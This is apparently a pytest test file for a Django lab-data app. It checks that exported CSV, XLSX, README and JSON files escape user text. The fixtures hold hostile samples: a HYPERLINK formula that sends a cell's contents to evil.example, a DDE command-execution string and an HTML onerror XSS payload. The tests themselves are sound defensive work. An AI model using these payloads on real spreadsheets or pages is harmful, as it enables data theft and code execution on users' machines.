"""User text lands escaped for its medium: formula-guarded in CSV/XLSX (OWASP's leading '), Markdown-escaped in
the dataset README, kept as data in JSON; numbers stay numbers."""
import csv
import io
import json
import zipfile

import openpyxl
import pytest
from django.test import Client
from markdown_it import MarkdownIt

from assb_lab.escaping import markdown_text, spreadsheet_text
from cycling.exports import to_csv, to_xlsx
from tests.conftest import client_for
from tests.factories import CellFactory, GroupFactory
from tests.helpers import ingest
from tests.landfiles import study_export

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HTML = "<img src=x onerror=alert(1)>"


@pytest.mark.parametrize("text", [FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_it_guards_text_that_a_spreadsheet_would_run(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("value", [-0.5, -3, 0, 12.5, None, "LNTO-01", "bare", ""])
def test_it_leaves_numbers_and_plain_text_alone(value):
    assert spreadsheet_text(value) == value


def test_it_escapes_markdown_and_html_so_a_viewer_shows_the_text():
    html = MarkdownIt("commonmark").render(f"- {markdown_text(HTML)}: group *x*\n")
    assert "<img" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html
    for text in ("**bold** [link](http://x) `code` # head | a | b |", "1. not a list", "&lt; entity", "a\\b"):
        rendered = MarkdownIt("commonmark").render(markdown_text(text)).strip()
        assert rendered == "<p>" + text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;") + "</p>"


def test_it_writes_guarded_text_and_untouched_numbers_to_csv_and_xlsx():
    columns = [("name", "Cell"), ("delta", "Delta (mV)")]
    rows = [{"name": FORMULA, "delta": -12.5}, {"name": "-5", "delta": 3}]
    text = to_csv(columns, rows).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [["Cell", "Delta (mV)"], ["'" + FORMULA, "-12.5"], ["'-5", "3"]]
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(columns, rows))).active
    assert sheet["A2"].value == "'" + FORMULA and sheet["A2"].data_type == "s"  # text, never a formula
    assert sheet["B2"].value == -12.5 and sheet["B2"].data_type == "n"
    assert sheet["A3"].value == "'-5"


@pytest.fixture
def hostile(project):
    group = GroupFactory(project=project, name="+cmd|' /C calc'!A0")
    cells = [CellFactory(project=project, group=group, name=FORMULA[:80]),
             CellFactory(project=project, group=group, name=HTML)]
    export = study_export("coated", n_cycles=3)[0]
    for c in cells:
        ingest(c, export, "run.xlsx")
    return cells


def test_it_guards_a_formula_leading_cell_name_in_the_cell_list_export(researcher, hostile):
    web = Client()
    web.force_login(researcher)
    rows = list(csv.reader(io.StringIO(web.get("/?format=csv").content.decode("utf-8-sig"))))
    names = {r[0] for r in rows[1:]}
    assert "'" + FORMULA[:80] in names and FORMULA[:80] not in names
    assert all(r[1] == "'+cmd|' /C calc'!A0" for r in rows[1:])
    sheet = openpyxl.load_workbook(io.BytesIO(web.get("/?format=xlsx").content)).active
    assert "'" + FORMULA[:80] in {sheet.cell(row=i, column=1).value for i in range(2, sheet.max_row + 1)}


def test_it_shows_user_text_as_text_in_the_datasets_readme_csv_and_json(researcher, hostile):
    formula_cell, html_cell = hostile
    resp = client_for(researcher).get(f"/api/v1/datasets/?cells={formula_cell.pk},{html_cell.pk}&records=none")
    assert resp.status_code == 200
    zf = zipfile.ZipFile(io.BytesIO(b"".join(resp.streaming_content)))
    readme = zf.read("README.md").decode()
    assert HTML not in readme
    rendered = MarkdownIt("commonmark").render(readme)
    assert "<img" not in rendered and "&lt;img src=x onerror=alert(1)&gt;" in rendered
    summary = list(csv.reader(io.StringIO(zf.read("summary-cells.csv").decode())))
    name_col = summary[0].index("Cell")
    assert {r[name_col] for r in summary[1:]} == {"'" + FORMULA[:80], HTML}
    sheets = [json.loads(zf.read(n)) for n in zf.namelist() if n.endswith("build_sheet.json")]
    assert {s["name"] for s in sheets} == {FORMULA[:80], HTML}  # JSON keeps the text as data, unchanged
